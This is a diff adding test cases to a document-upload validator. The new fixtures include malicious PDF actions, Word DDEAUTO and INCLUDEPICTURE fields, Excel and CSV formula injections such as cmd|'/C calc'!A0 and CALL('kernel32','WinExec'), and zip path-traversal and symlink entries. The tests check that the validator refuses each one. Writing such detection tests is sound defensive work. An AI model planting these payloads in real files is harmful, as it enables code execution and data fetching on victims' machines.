@@ -5,6 +5,9 @@ import io
 import os
 import struct
 import time
+import zipfile
+from contextlib import suppress
+from xml.sax.saxutils import escape
 
 import pytest
 from hypothesis import given
@@ -16,6 +19,7 @@ from documents.kinds import LARGEST, Media, Unfit, UnfitKind, simple
 from documents.process import FOREIGN, Failed, Limits, Why, run
 from tests.sample_files import (
     PIXEL,
+    WORD,
     W,
     doc,
     docx,
@@ -68,7 +72,7 @@ def refused(content, name=""):
         (xlsx(), Media.XLSX),
         (pptx(), Media.PPTX),
         (
-            zipped({"照片/a.png": PIXEL, "b.txt": "说明", "c.pdf": pdf(), "__MACOSX/._a.png": b"\0\1"}),
+            zipped({"照片/a.png": PIXEL, "b.txt": "说明", "c.pdf": pdf(), "__MACOSX/._a.png": b"\0\5\x16\7"}),
             Media.ZIP,
         ),
         (doc(), Media.DOC),
@@ -110,6 +114,8 @@ def png(width, height):
         (b"\0\0\0\x18ftypweird", UnfitKind.UNKNOWN_KIND),
         (b"\xff\xfe\0\0\1", UnfitKind.UNKNOWN_KIND),
         (b"MZ\x90\0" + b"\0" * 9, UnfitKind.PROGRAM),
+        (b"MZ\x90\0ftypisom" + b"\0" * 9, UnfitKind.PROGRAM),
+        (b"<!--ftypisom--><script>x</script>", UnfitKind.PROGRAM),
         (b"\x7fELF\x02" + b"\0" * 9, UnfitKind.PROGRAM),
         (b"#!/bin/sh\nrm", UnfitKind.PROGRAM),
         (b"<svg xmlns='x'/>", UnfitKind.PROGRAM),
@@ -118,6 +124,26 @@ def png(width, height):
 )
 def test_what_needs_no_opening_is_refused_unopened(content, kind):
     assert refused(content).kind is kind
+
+
+MOST = LARGEST - 100
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"a" * MOST,
+        "深".encode("gb18030") * (MOST // 2),
+        b"\xff\xd8" + b"\xff\xfe\0\2" * (MOST // 4),
+        b"\xff\xd8" + b"\xff" * MOST,
+        png(1, 1) + b"\0\0\0\0tEXt\0\0\0\0" * (MOST // 12),
+    ],
+)
+def test_what_is_looked_at_on_the_event_loop_holds_nobody_up(content):
+    begun = time.process_time()
+    with suppress(Unfit):
+        simple(content, "")
+    assert time.process_time() - begun < 0.7
 
 
 @pytest.mark.parametrize("name", ["a.js", "a.vbs", "a.BAT", "a.hta", "a.ps1 ", "a.pdf.js"])
@@ -156,6 +182,16 @@ JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
         (pdf(trailer=b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 >>"), UnfitKind.ENCRYPTED),
         (pdf(more=(b"[" * 400 + b"]" * 400,)), UnfitKind.BROKEN),
         (pdf_of(b"<< /Type /Catalog >>"), UnfitKind.BROKEN),
+        (pdf(root=rb"/OpenAction << /S /GoToR /F (\\\\host\\a.pdf) >>"), UnfitKind.EXTERNAL),
+        (pdf(root=b"/OpenAction << /S /URI /URI (http://x/a) >>"), UnfitKind.SCRIPT),
+        (pdf(root=b"/AA << /WC << /S /Named /Next [<< /S /URI /URI (http://x/a) >>] >> >>"), UnfitKind.SCRIPT),
+        (pdf(more=(rb"<< /URI (\\\\host\\a) >>",)), UnfitKind.EXTERNAL),
+        (pdf(more=(b"<< /URI (search-ms:query=x) >>",)), UnfitKind.EXTERNAL),
+        (pdf(more=(b"<< /URI (java\tscript:x) >>",)), UnfitKind.EXTERNAL),
+        (pdf(root=b"/URI << /Base (file:///c:/) >>"), UnfitKind.EXTERNAL),
+        (pdf(more=(b"<< /Length 0 /F (a.bin) >>\nstream\n\nendstream",)), UnfitKind.EXTERNAL),
+        (pdf(more=(b"<< /Length 0 /Ref << /F (a.pdf) >> >>\nstream\n\nendstream",)), UnfitKind.EXTERNAL),
+        (pdf(more=(b"<< /Type /Annot /Subtype /Movie >>",)), UnfitKind.EMBEDDED),
     ],
 )
 def test_a_pdf_is_whole_and_nothing_in_it_acts(content, kind):
@@ -170,6 +206,25 @@ def field(*pieces):
     return docx(FIELD.format("".join(map(CODE.format, pieces))))
 
 
+def coded(field):
+    return docx(f'<w:fldSimple w:instr="{escape(field, {chr(34): "&quot;"})}"/>')
+
+
+def moved(name, body, encoding="utf-8"):
+    """A Word document whose text is a part of this name: its relations say which it is."""
+    types = f'<Override PartName="/{name}" ContentType="{WORD}"/>'
+    return zipped({
+        "[Content_Types].xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{types}</Types>',
+        "_rels/.rels": relation("officeDocument", name, "Internal"),
+        name: f"<w:document {W}><w:body>{body}</w:body></w:document>".encode(encoding),
+    })  # fmt: skip
+
+
+def calculated(formula, tag="f"):
+    return xlsx({"xl/worksheets/sheet1.xml": f"<worksheet><{tag}>{escape(formula)}</{tag}></worksheet>"})
+
+
+DDE = FIELD.format(CODE.format("DDEAUTO cmd"))
 MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
 
 
@@ -213,6 +268,54 @@ MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
         (field("DDEAUTO c:\\\\cmd.exe"), UnfitKind.EXTERNAL),
         (field(" INCLUDE", "TEXT file:///etc/passwd"), UnfitKind.EXTERNAL),
         (field('HYPERLINK "file:///c:/a.exe"'), UnfitKind.EXTERNAL),
+        (coded('HYPERLINK"file:///c:/a.exe"'), UnfitKind.EXTERNAL),
+        (coded('HYPERLINK " file:///c:/a.exe"'), UnfitKind.EXTERNAL),
+        (coded(r'HYPERLINK \t "_blank" \o "见附件" "\\\\host\\a.exe"'), UnfitKind.EXTERNAL),
+        (coded('INCLUDEPICTURE"http://x/a.png"'), UnfitKind.EXTERNAL),
+        (coded(r"DDEAUTO\* x"), UnfitKind.EXTERNAL),
+        (moved("x/text.bin", DDE), UnfitKind.EXTERNAL),
+        (moved("x/text.bin", DDE, "utf-16"), UnfitKind.BROKEN),
+        (
+            docx(members={"word/glossary/document.xml": f"<w:document {W}>{DDE}</w:document>"}),
+            UnfitKind.EXTERNAL,
+        ),
+        (
+            docx(members={"word/settings.xml": f"<w:settings {W}><w:mailMerge/></w:settings>"}),
+            UnfitKind.EXTERNAL,
+        ),
+        (
+            docx(members={"word/_rels/document.xml.rels": relation("hyperlink", r"/\host\a.exe")}),
+            UnfitKind.EXTERNAL,
+        ),
+        (
+            docx(
+                members={"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://x/a", "Internal")}
+            ),
+            UnfitKind.EXTERNAL,
+        ),
+        (docx(members={"word/_rels/a.xml.rels": relation("control", "a.xml", "Internal")}), UnfitKind.SCRIPT),
+        (docx(members={"word/media/o.bin": ole({"\x01Ole10Native": b"MZ"})}), UnfitKind.EMBEDDED),
+        (docx(members={"word/media/a.png": b"MZ\x90"}), UnfitKind.PROGRAM),
+        (
+            docx(members={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'}),
+            UnfitKind.SCRIPT,
+        ),
+        (docx(members={"Word/Document.xml": "<x/>"}), UnfitKind.BROKEN),
+        (zipped({"a.txt": "x"}) + docx(), UnfitKind.BROKEN),
+        (calculated('WEBSERVICE("http://x/"&A1)'), UnfitKind.EXTERNAL),
+        (calculated('1+_xlfn.IMAGE ("https://x/a.png")'), UnfitKind.EXTERNAL),
+        (calculated("cmd|'/C calc'!A0"), UnfitKind.EXTERNAL),
+        (calculated('CALL("kernel32","WinExec")', "definedName"), UnfitKind.EXTERNAL),
+        (calculated('HYPERLINK("file:///c:/a.exe","看")'), UnfitKind.EXTERNAL),
+        (calculated(r"'\\host\[a.xlsx]一'!A1"), UnfitKind.EXTERNAL),
+        (xlsx({"xl/connections.xml": "<connections><connection id='1'/></connections>"}), UnfitKind.EXTERNAL),
+        (xlsx({"customXml/item1.xml": "<DataMashup xmlns='x'>AAAA</DataMashup>"}), UnfitKind.EXTERNAL),
+        (xlsx({"xl/a/b.xml": "<externalLink><ddeLink/></externalLink>"}), UnfitKind.EXTERNAL),
+        (
+            xlsx({"xl/externalLinks/_rels/a.xml.rels": relation("externalLinkPath", r"file:///\\host\a.xlsx")}),
+            UnfitKind.EXTERNAL,
+        ),
+        (pptx({"ppt/notesSlides/a.xml": '<p><a action="ppaction://program"/></p>'}), UnfitKind.PROGRAM),
         (docx('<w:fldSimple w:instr="DDE cmd"/>'), UnfitKind.EXTERNAL),
         (
             xlsx(
@@ -244,10 +347,23 @@ def test_an_office_file_acts_by_nothing_and_needs_nothing_else(content, kind):
         xlsx({"xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "去年.xlsx")}),
         field(" PAGE "),
         field(' HYPERLINK \\l "_Toc1" '),
+        coded(r'HYPERLINK "https://example.cn/a?b=1" \o "说明: 见附件" \t "_blank"'),
+        moved("x/text.xml", FIELD.format(CODE.format("PAGE"))),
+        docx(
+            members={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>', "word/media/a.png": PIXEL}
+        ),
+        xlsx({"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>", "xl/printerSettings/a.bin": b"H\0P\0"}),
+        xlsx({"xl/externalLinks/_rels/a.xml.rels": relation("externalLinkPath", "file:///C:\\表\\去年.xlsx")}),
+        calculated("IF(A1>1,\"a|b\",'一|二'!B2)"),
+        calculated('HYPERLINK("#一!A1","看")'),
     ],
 )
 def test_what_office_files_usually_have_is_taken(content):
     assert kind_of(content) in {Media.DOCX, Media.XLSX}
+
+
+BOOK = struct.pack("<HH16x", 0x809, 16)
+HIDDEN_MACROS = struct.pack("<HH", 0x85, 8) + b"\0\0\0\0\0\1\0\0"
 
 
 @pytest.mark.parametrize(
@@ -260,6 +376,11 @@ def test_what_office_files_usually_have_is_taken(content):
         (doc(**{"ObjectPool/_1/\x01Ole10Native": b"MZ"}), UnfitKind.EMBEDDED),
         (doc(**{"ObjectPool/_1/Equation Native": b"x"}), UnfitKind.EMBEDDED),
         (doc(**{"ObjectPool/_1/\x03OCXNAME": b"x"}), UnfitKind.SCRIPT),
+        (doc(b'\x13INCLUDEPICTURE"http://x/a"'), UnfitKind.EXTERNAL),
+        (doc('\x13 HYPERLINK "file:///c:/a.exe" \x14'.encode("utf-16-le")), UnfitKind.EXTERNAL),
+        (doc(**{"ObjectPool/_1/Package": docx()}), UnfitKind.EMBEDDED),
+        (ole({"Book": BOOK, "Workbook": BOOK + HIDDEN_MACROS}), UnfitKind.MACRO),
+        (ole({"Workbook": BOOK, "Book": BOOK + HIDDEN_MACROS}), UnfitKind.MACRO),
         (doc(b"\x13 DDEAUTO c:\\cmd.exe"), UnfitKind.EXTERNAL),
         (doc("\x13INCLUDETEXT x".encode("utf-16-le")), UnfitKind.EXTERNAL),
         (xls((0x1AE, b"\x01\0\x08\0\0cmd\x03x!A0")), UnfitKind.EXTERNAL),
@@ -275,6 +396,16 @@ def test_what_office_files_usually_have_is_taken(content):
 )
 def test_an_old_office_file_acts_by_nothing(content, kind):
     assert refused(content).kind is kind
+
+
+def linked(target):
+    """An archive with a symbolic link."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        info = zipfile.ZipInfo("a.txt")
+        info.create_system, info.external_attr = 3, 0o120777 << 16
+        archive.writestr(info, target)
+    return out.getvalue()
 
 
 def locked():
@@ -302,6 +433,22 @@ def locked():
         (zipped({"x": b"\0" * 20_000_000}), UnfitKind.ARCHIVE_BOMB, ""),
         (zipped({f"{i}": b"" for i in range(5001)}), UnfitKind.ARCHIVE_BOMB, ""),
         (locked(), UnfitKind.ENCRYPTED, ""),
+        (zipped({"../../a.txt": "x"}), UnfitKind.ODD_NAME, "../../a.txt"),
+        (zipped({"/etc/a.txt": "x"}), UnfitKind.ODD_NAME, "/etc/a.txt"),
+        (zipped({"C:\\a.txt": "x"}), UnfitKind.ODD_NAME, "C:\\a.txt"),
+        (zipped({"a.exe:b.txt": "x"}), UnfitKind.ODD_NAME, "a.exe:b.txt"),
+        (zipped({"a\u202etxt.fdp.txt": "x"}), UnfitKind.ODD_NAME, "a\u202etxt.fdp.txt"),
+        (zipped({"a\x1b[31m.txt": "x"}), UnfitKind.ODD_NAME, "a\x1b[31m.txt"),
+        (linked("/etc"), UnfitKind.ODD_NAME, "a.txt"),
+        (zipped({"__MACOSX/a.exe": b"MZ\x90"}), UnfitKind.PROGRAM, "__MACOSX/a.exe"),
+        (zipped({"__MACOSX/._a.exe": b"MZ\x90"}), UnfitKind.PROGRAM, "__MACOSX/._a.exe"),
+        (zipped({"desktop.ini": "[.ShellClassInfo]\nIconResource=x"}), UnfitKind.UNKNOWN_KIND, "desktop.ini"),
+        (zipped({"a.exe": b""}), UnfitKind.PROGRAM, "a.exe"),
+        (zipped({"a.csv": "一,\"=cmd|' /C calc'!A0\"\n"}), UnfitKind.SCRIPT, "a.csv"),
+        (zipped({"a.csv": "一\n+1+cmd|'x'!A0\n"}), UnfitKind.SCRIPT, "a.csv"),
+        (zipped({"a.csv": '=HYPERLINK("http://x/"&A1)'}), UnfitKind.SCRIPT, "a.csv"),
+        (zipped({"a.csv": "ID;P\n"}), UnfitKind.SCRIPT, "a.csv"),
+        (zipped({"a.exe": "x"}) + zipped({"a.txt": "x"}), UnfitKind.BROKEN, ""),
         (zipped({}), UnfitKind.EMPTY, ""),
         (b"PK\x03\x04 not a zip", UnfitKind.UNKNOWN_KIND, ""),
     ],
